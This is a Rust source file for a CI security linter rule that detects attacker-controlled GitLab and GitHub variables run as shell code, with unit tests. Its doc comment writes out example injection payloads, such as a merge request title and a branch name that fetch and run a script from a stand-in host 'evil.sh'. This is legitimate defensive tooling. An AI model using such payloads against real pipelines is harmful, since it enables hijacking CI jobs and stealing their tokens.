use chainproof_core::{Confidence, Finding, Severity, Span};

use super::{Cx, Rule, Scope, declare_rule};
use crate::expr::Taint;
use crate::github::Step;
use crate::gitlab::{GlJob, Pipeline};
use crate::gitlab_taint::{GlSource, variable_taint};
use crate::script::{
    Assigned, CodeFrom, Command, Expansion, Lang, Line, Pipe, Shell, SubKind, basename, code_from,
    github_line, github_shell, github_var_taint, gitlab_lines, interpreter, parse,
};
use crate::taint::Source;

declare_rule! {
    /// ## What it does
    /// Finds attacker-controlled variables that the shell itself executes as code:
    /// `eval "$VAR"`, `sh -c "... $VAR ..."` (also `bash -c`, `python -c`, `node -e`,
    /// `perl -e`...), `source <(echo "$VAR")`, `echo "$VAR" | sh`, and `$VAR` used as the
    /// command word. `VAR` is:
    /// - on GitLab, an attacker-controlled predefined variable (`CI_MERGE_REQUEST_TITLE`,
    ///   `CI_MERGE_REQUEST_DESCRIPTION`, `CI_COMMIT_MESSAGE`, `CI_COMMIT_REF_NAME`,
    ///   `CI_COMMIT_BRANCH`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_AUTHOR`,
    ///   `CI_EXTERNAL_PULL_REQUEST_*`...) or a `variables:` entry defined from one;
    /// - on GitHub, an `env:` variable whose value carries attacker text
    ///   (`${{ github.event.issue.title }}`...), or the runner's `GITHUB_HEAD_REF` in pull
    ///   request workflows;
    /// - or a shell variable assigned from one of those earlier in the script.
    ///
    /// Generated scripts count too: such a variable written into a file by `echo`, `printf` or
    /// `cat <<EOF` with `>`/`>>`, when a later command of the step or job runs that file
    /// (`sh gen.sh`, `./gen.sh`, `. gen.sh`), is reported at the write (medium confidence).
    ///
    /// Passing such a variable as an argument (`echo "$CI_MERGE_REQUEST_TITLE"`,
    /// `git checkout "$CI_COMMIT_REF_NAME"`) is safe and not reported: GitLab and `env:` expand
    /// variables in the shell, not before it. (`${{ }}` in scripts is `template-injection`.)
    ///
    /// ## Why is this bad
    /// The value is parsed as code: a merge request titled `$(curl -s evil.sh | sh)`, or a branch
    /// named `x;curl${IFS}evil.sh|sh`, runs the attacker's commands in the job with its
    /// variables, tokens and runner.
    ///
    /// ## Example
    /// ```yaml
    /// notify:
    ///   script:
    ///     - eval "notify --title \"$CI_MERGE_REQUEST_TITLE\""
    ///     - sh -c "echo Building $CI_COMMIT_REF_NAME"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// notify:
    ///   script:
    ///     - notify --title "$CI_MERGE_REQUEST_TITLE"
    ///     - sh -c 'echo "Building $1"' sh "$CI_COMMIT_REF_NAME"
    /// ```
    ///
    /// ## References
    /// - https://docs.gitlab.com/ci/variables/#use-cicd-variables-in-job-scripts
    /// - https://securitylab.github.com/resources/github-actions-untrusted-input/
    /// - https://www.shellcheck.net/wiki/SC2294
    ShellInjection {
        id: "shell-injection",
        title: "attacker-controlled variable executed by the shell",
        severity: High,
        confidence: High,
        platforms: ["github", "gitlab"],
        fixable: false,
    }
}

/// An expansion that reaches code, and how.
struct Sink<'a> {
    expansion: Expansion<'a>,
    how: String,
}

fn lang_name(l: Lang) -> &'static str {
    match l {
        Lang::Shell => "shell",
        Lang::Python => "Python",
        Lang::Perl => "Perl",
        Lang::Ruby => "Ruby",
        Lang::Node => "JavaScript",
        Lang::Php => "PHP",
        Lang::PowerShell => "PowerShell",
    }
}

/// Expansions inside `<(...)` of a word.
fn process_sub_expansions<'a>(w: &crate::script::Word<'a>) -> Vec<Expansion<'a>> {
    w.substitutions()
        .into_iter()
        .filter(|s| s.kind == SubKind::ProcessIn)
        .flat_map(|s| {
            let inner: Vec<Expansion<'a>> = parse_sub(s.inner, s.start);
            inner
        })
        .collect()
}

fn parse_sub(inner: &str, start: usize) -> Vec<Expansion<'_>> {
    crate::script::parse_at(inner, start)
        .iter()
        .flat_map(|p| p.commands.iter())
        .flat_map(|c| c.expansions())
        .collect()
}

/// Expansions of a command that the shell runs as code.
fn sinks<'a>(c: &Command<'a>) -> Vec<Sink<'a>> {
    let argv = c.argv();
    let Some(first) = argv.first() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in first.expansions() {
        out.push(Sink {
            expansion: e,
            how: "is run as a command".into(),
        });
    }
    let prog = basename(&first.value()).to_owned();
    match prog.as_str() {
        "eval" => {
            for w in &argv[1..] {
                for e in w.expansions() {
                    out.push(Sink {
                        expansion: e,
                        how: "is evaluated as shell code by `eval`".into(),
                    });
                }
            }
        }
        "source" | "." => {
            if let Some(w) = argv.get(1) {
                for e in process_sub_expansions(w) {
                    out.push(Sink {
                        expansion: e,
                        how: format!("is run as shell code by `{prog} <(...)`"),
                    });
                }
            }
        }
        _ => {
            let Some(lang) = interpreter(&prog) else {
                return out;
            };
            match code_from(lang, argv) {
                CodeFrom::Inline(Some(w)) => {
                    for e in w.expansions() {
                        out.push(Sink {
                            expansion: e,
                            how: format!(
                                "is expanded into the {} code `{prog}` runs",
                                lang_name(lang)
                            ),
                        });
                    }
                }
                CodeFrom::File(w) if w.text.starts_with("<(") => {
                    for e in process_sub_expansions(w) {
                        out.push(Sink {
                            expansion: e,
                            how: format!("is run as {} code by `{prog} <(...)`", lang_name(lang)),
                        });
                    }
                }
                _ => {}
            }
        }
    }
    out
}

/// `echo "$VAR" | sh`: printed expansions piped into an interpreter reading standard input.
fn piped_sinks<'a>(pipe: &Pipe<'a>) -> Vec<Sink<'a>> {
    let mut out = Vec::new();
    for (i, c) in pipe.commands.iter().enumerate() {
        let prog = c.program().unwrap_or_default();
        if !matches!(prog.as_str(), "echo" | "printf" | "cat") {
            continue;
        }
        let runner = pipe.commands[i + 1..].iter().find_map(|d| {
            let argv = d.argv();
            let lang = interpreter(&argv.first()?.value())?;
            (code_from(lang, argv) == CodeFrom::Stdin)
                .then(|| (d.program().unwrap_or_default(), lang))
        });
        let Some((runner, lang)) = runner else {
            continue;
        };
        let mut exps: Vec<Expansion<'a>> =
            c.argv()[1..].iter().flat_map(|w| w.expansions()).collect();
        for h in &c.heredocs {
            exps.extend(h.expansions());
        }
        for e in exps {
            out.push(Sink {
                expansion: e,
                how: format!("is piped into `{runner}` as {} code", lang_name(lang)),
            });
        }
    }
    out
}

fn all_sinks<'a>(pipe: &Pipe<'a>) -> Vec<Sink<'a>> {
    let mut out: Vec<Sink<'a>> = pipe.commands.iter().flat_map(sinks).collect();
    out.extend(piped_sinks(pipe));
    out
}

/// A script file written with tainted text in one command (`echo "$X" > gen.sh`) and run by a
/// later one (`sh gen.sh`, `./gen.sh`, `. gen.sh`): GitLab's and GitHub's "generated script" sink.
struct Generated<S> {
    /// File name as written, and the tainted expansions written to it.
    files: Vec<(String, Vec<Written<S>>)>,
}

/// A tainted expansion written into a generated script.
struct Written<S> {
    name: String,
    span: Span,
    source: S,
}

impl<S: Clone> Generated<S> {
    fn new() -> Self {
        Generated { files: Vec::new() }
    }

    /// Remember what `echo`/`printf`/`cat` with a `>`/`>>` redirection writes into a file.
    fn record<'a>(
        &mut self,
        c: &Command<'a>,
        mut taint: impl FnMut(&Expansion<'a>) -> Option<(S, Span)>,
    ) {
        if !matches!(c.program().as_deref(), Some("echo" | "printf" | "cat")) {
            return;
        }
        let Some(file) = c
            .redirects
            .iter()
            .filter(|r| r.fd.is_none_or(|fd| fd == "1") && (r.op == ">" || r.op == ">>"))
            .find_map(|r| r.target.as_ref().map(|t| t.value()))
        else {
            return;
        };
        let file = file.trim_start_matches("./").to_owned();
        let mut exps: Vec<Expansion<'a>> =
            c.argv()[1..].iter().flat_map(|w| w.expansions()).collect();
        for h in &c.heredocs {
            exps.extend(h.expansions());
        }
        let tainted: Vec<Written<S>> = exps
            .iter()
            .filter_map(|e| {
                taint(e).map(|(source, span)| Written {
                    name: e.name.to_owned(),
                    span,
                    source,
                })
            })
            .collect();
        if tainted.is_empty() {
            return;
        }
        match self.files.iter_mut().find(|(f, _)| *f == file) {
            Some((_, v)) => v.extend(tainted),
            None => self.files.push((file, tainted)),
        }
    }

    /// What the file this command runs was written with, if it is one of ours.
    fn run(&self, c: &Command<'_>) -> Option<(&str, &[Written<S>])> {
        let argv = c.argv();
        let first = argv.first()?.value();
        let script = match basename(&first) {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "source" | "." => argv.get(1)?.value(),
            _ => first,
        };
        let script = script.trim_start_matches("./");
        self.files
            .iter()
            .find(|(f, _)| f == script)
            .map(|(f, v)| (f.as_str(), v.as_slice()))
    }
}

/// The finding for attacker text written into a script that `runner` later runs.
fn written_finding<S>(
    cx: &Cx<'_, '_>,
    w: &Written<S>,
    subject: &str,
    file: &str,
    unit: &str,
    runner: Span,
    path: &[(String, Span)],
) -> Finding {
    let f = cx
        .finding(
            &ShellInjection::INFO,
            w.span,
            "attacker-controlled value written into a script",
            format!(
                "{subject} is written into `{file}`, which the {unit} then runs: text such as `$(id)` in it runs in this job"
            ),
        )
        .confidence(Confidence::Medium)
        .related(cx.loc(runner, "runs the generated script"));
    cx.with_path(f, path)
}

impl ShellInjection {
    fn github(
        cx: &Cx<'_, '_>,
        scope: Scope<'_, '_>,
        step: &Step<'_>,
        line: Line<'_>,
        out: &mut Vec<Finding>,
    ) {
        let pipes = parse(line.text);
        let outer = |n: &str| github_var_taint(cx, scope, step, n, true);
        let wrap = |s: Source, name: &str, start: usize, end: usize| {
            s.hop(format!("shell variable {name}"), line.span(cx, start, end))
        };
        let mut assigned: Assigned<Source> = Assigned::default();
        let mut generated: Generated<Source> = Generated::new();
        for pipe in &pipes {
            for c in &pipe.commands {
                if let Some((file, written)) = generated.run(c) {
                    let runner = line.span(cx, c.start, c.end);
                    for w in written {
                        let subject =
                            format!("`${}`, which holds {},", w.name, w.source.describe());
                        out.push(written_finding(
                            cx,
                            w,
                            &subject,
                            file,
                            "step",
                            runner,
                            &w.source.path,
                        ));
                    }
                }
                generated.record(c, |e| {
                    assigned
                        .get(e.name, &outer)
                        .map(|s| (s, line.span(cx, e.start, e.end)))
                });
            }
            for sink in all_sinks(pipe) {
                let e = sink.expansion;
                let Some(source) = assigned.get(e.name, &outer) else {
                    continue;
                };
                let (severity, confidence) = match (source.taint, source.path.len() <= 1) {
                    (Taint::Attacker, true) => (Severity::High, Confidence::High),
                    (Taint::Attacker, false) => (Severity::High, Confidence::Medium),
                    (Taint::Unknown, _) => (Severity::Medium, Confidence::Low),
                };
                let mut f = cx
                    .finding(
                        &Self::INFO,
                        line.span(cx, e.start, e.end),
                        "attacker-controlled value runs as code",
                        format!(
                            "`${}`, which holds {}, {}: text such as `$(id)` in it runs in this job",
                            e.name,
                            source.describe(),
                            sink.how
                        ),
                    )
                    .severity(severity)
                    .confidence(confidence);
                f = cx.with_path(f, &source.path);
                out.push(f);
            }
            for c in &pipe.commands {
                assigned.update(c, &outer, &wrap);
            }
        }
    }
}

impl Rule for ShellInjection {
    fn info(&self) -> &'static chainproof_core::RuleInfo {
        &Self::INFO
    }

    fn step(&self, cx: &Cx<'_, '_>, scope: Scope<'_, '_>, step: &Step<'_>, out: &mut Vec<Finding>) {
        if github_shell(scope, step) != Shell::Posix {
            return;
        }
        if let Some(line) = github_line(step) {
            Self::github(cx, scope, step, line, out);
        }
    }

    fn gitlab_job(
        &self,
        cx: &Cx<'_, '_>,
        pipeline: &Pipeline,
        job: &GlJob,
        out: &mut Vec<Finding>,
    ) {
        let outer = |n: &str| variable_taint(pipeline, Some(job), n);
        let mut assigned: Assigned<GlSource> = Assigned::default();
        let mut generated: Generated<GlSource> = Generated::new();
        for line in gitlab_lines(job) {
            let wrap = |s: GlSource, name: &str, start: usize, end: usize| {
                s.hop(format!("shell variable {name}"), line.span(cx, start, end))
            };
            for pipe in &parse(line.text) {
                for c in &pipe.commands {
                    if let Some((file, written)) = generated.run(c) {
                        let runner = line.span(cx, c.start, c.end);
                        for w in written {
                            let subject = w.source.subject(&w.name);
                            out.push(written_finding(
                                cx,
                                w,
                                &subject,
                                file,
                                "job",
                                runner,
                                &w.source.path,
                            ));
                        }
                    }
                    generated.record(c, |e| {
                        assigned
                            .get(e.name, &outer)
                            .map(|s| (s, line.span(cx, e.start, e.end)))
                    });
                }
                for sink in all_sinks(pipe) {
                    let e = sink.expansion;
                    let Some(source) = assigned.get(e.name, &outer) else {
                        continue;
                    };
                    let mut f = cx.finding(
                        &Self::INFO,
                        line.span(cx, e.start, e.end),
                        "attacker-controlled value runs as code",
                        format!(
                            "{} {}: text such as `$(id)` in it runs in this job",
                            source.subject(e.name),
                            sink.how
                        ),
                    );
                    f = cx.with_path(f, &source.path);
                    out.push(f);
                }
                for c in &pipe.commands {
                    assigned.update(c, &outer, &wrap);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sunk(s: &str) -> Vec<String> {
        parse(s)
            .iter()
            .flat_map(all_sinks)
            .map(|k| k.expansion.name.to_owned())
            .collect()
    }

    #[test]
    fn finds_sinks() {
        assert_eq!(sunk("eval \"$A\""), vec!["A"]);
        assert_eq!(sunk("eval echo $A"), vec!["A"]);
        assert_eq!(sunk("sh -c \"echo $A\""), vec!["A"]);
        assert_eq!(sunk("python3 -c \"print('$A')\""), vec!["A"]);
        assert_eq!(sunk("source <(echo \"$A\")"), vec!["A"]);
        assert_eq!(sunk("echo \"$A\" | bash"), vec!["A"]);
        assert_eq!(sunk("$A --flag"), vec!["A"]);
        assert_eq!(sunk("eval \"$(echo $A)\""), vec!["A"]);
    }

    #[test]
    fn arguments_are_not_sinks() {
        for s in [
            "echo \"$A\"",
            "git checkout \"$A\"",
            "sh -c 'echo \"$1\"' sh \"$A\"",
            "bash ./script.sh \"$A\"",
            "curl -d \"$A\" https://x",
            "echo \"$A\" | jq -R .",
            "eval 'echo $A'",
            // Operands of a `[[ ]]` test, even after `||` inside it.
            "if [[ \"$T\" == *-x || \"$A\" == *-x ]]; then",
            "[[ $A =~ ^(main|dev)$ ]] && echo ok",
        ] {
            assert!(sunk(s).is_empty(), "{s}: {:?}", sunk(s));
        }
    }
}
